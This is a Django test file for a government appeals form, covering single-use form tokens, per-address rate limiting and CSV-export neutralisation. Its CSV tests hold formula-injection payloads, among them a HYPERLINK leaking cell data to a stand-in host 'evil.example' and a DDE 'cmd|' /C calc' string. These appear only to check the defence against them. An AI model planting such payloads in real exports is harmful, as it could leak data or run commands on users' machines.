"""Public input (issue 12, item 6): the form-start token serves once, a rate limit
per client address and form (429 in the page's language), and CSV exports that
spreadsheet programs cannot run as formulas."""

import csv
import io

import pytest
from django.core import mail
from django.test import Client
from django.utils import translation
from wagtail.contrib.forms.models import FormSubmission

from cms.appeals.forms import rate_limited_message
from cms.core.csv_safety import neutralise
from search.querylog import record_query
from tests.appeals_helpers import make_form_page, valid_data
from tests.factories import editor_of

pytestmark = pytest.mark.django_db

URL = "/{lang}/agency-a/appeals/online-appeal/"


@pytest.fixture
def form_page(agency_a):
    return make_form_page(agency_a)


def test_one_form_start_token_sends_one_appeal(client, form_page):
    data = valid_data(form_page)
    assert client.post(URL.format(lang="ru"), data).status_code == 302
    for _replay in range(3):
        response = client.post(URL.format(lang="ru"), data)
        assert response.status_code == 200
    with translation.override("ru"):
        expected = translation.gettext(
            "This form has already been sent. Open the form again to send a new one."
        )
    assert expected in response.content.decode()
    assert FormSubmission.objects.filter(page=form_page).count() == 1
    assert len(mail.outbox) == 1


def test_a_new_token_for_each_visit_sends_again(client, form_page):
    for _visit in range(2):
        assert client.post(URL.format(lang="kk"), valid_data(form_page)).status_code == 302
    assert FormSubmission.objects.filter(page=form_page).count() == 2


def test_a_form_with_errors_does_not_use_up_its_token(client, form_page):
    data = valid_data(form_page, email="not-an-address")
    assert client.post(URL.format(lang="en"), data).status_code == 200
    data["email"] = "aigul@example.kz"
    assert client.post(URL.format(lang="en"), data).status_code == 302


@pytest.mark.parametrize("lang", ["kk", "ru", "en"])
def test_rate_limit_per_address_answers_429_in_the_page_language(settings, form_page, lang):
    settings.FORM_RATE_LIMIT = 3
    client = Client(REMOTE_ADDR="192.0.2.7")
    for _attempt in range(3):
        assert client.post(URL.format(lang=lang), valid_data(form_page)).status_code == 302
    response = client.post(URL.format(lang=lang), valid_data(form_page))
    assert response.status_code == 429
    assert response["Retry-After"] == str(settings.FORM_RATE_LIMIT_WINDOW)
    with translation.override(lang):
        expected = rate_limited_message()
    html = response.content.decode()
    assert expected in html
    assert f'<html lang="{lang}"' in html
    assert FormSubmission.objects.filter(page=form_page).count() == 3
    # Another address is not limited.
    other = Client(REMOTE_ADDR="192.0.2.8")
    assert other.post(URL.format(lang=lang), valid_data(form_page)).status_code == 302


def test_rate_limit_is_per_form(settings, agency_a, agency_b):
    """One agency's busy form does not block another agency's form (isolation)."""
    settings.FORM_RATE_LIMIT = 1
    page_a = make_form_page(agency_a)
    page_b = make_form_page(agency_b, email="info@b.gov.kz")
    client = Client(REMOTE_ADDR="192.0.2.9")
    assert client.post(URL.format(lang="ru"), valid_data(page_a)).status_code == 302
    assert client.post(URL.format(lang="ru"), valid_data(page_a)).status_code == 429
    url_b = "/ru/agency-b/appeals/online-appeal/"
    assert client.post(url_b, valid_data(page_b)).status_code == 302


def test_forwarded_for_is_trusted_only_behind_a_configured_proxy(settings, form_page):
    settings.FORM_RATE_LIMIT = 1
    client = Client(REMOTE_ADDR="10.1.1.1")
    # No trusted proxy: a forged X-Forwarded-For does not give a new address.
    client.post(URL.format(lang="ru"), valid_data(form_page), HTTP_X_FORWARDED_FOR="1.1.1.1")
    response = client.post(
        URL.format(lang="ru"), valid_data(form_page), HTTP_X_FORWARDED_FOR="2.2.2.2"
    )
    assert response.status_code == 429
    settings.TRUSTED_PROXY_COUNT = 1
    response = client.post(
        URL.format(lang="ru"), valid_data(form_page), HTTP_X_FORWARDED_FOR="3.3.3.3"
    )
    assert response.status_code == 302


# --- CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise(prefix):
    assert neutralise(prefix + "HYPERLINK(1)") == "'" + prefix + "HYPERLINK(1)"
    assert neutralise("Салық" + prefix) == "Салық" + prefix
    assert neutralise(12) == 12


def test_form_submissions_csv_has_no_formula(client, form_page):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    data = valid_data(form_page, name=formula, message="@SUM(1+1)*cmd|' /C calc'!A0")
    assert client.post(URL.format(lang="ru"), data).status_code == 302
    client.force_login(editor_of(form_page.agency))
    response = client.get(f"/admin/forms/submissions/{form_page.pk}/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_search_query_report_csv_has_no_formula(client, agency_a):
    record_query('=HYPERLINK("http://evil.example")', "kk", "agency-a", 0)
    record_query("-2+3", "ru", "agency-a", 1)
    client.force_login(editor_of(agency_a))
    response = client.get("/admin/reports/search-queries/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    queries = [row[1] for row in rows[1:]]
    assert queries and all(query.startswith("'") for query in queries), queries
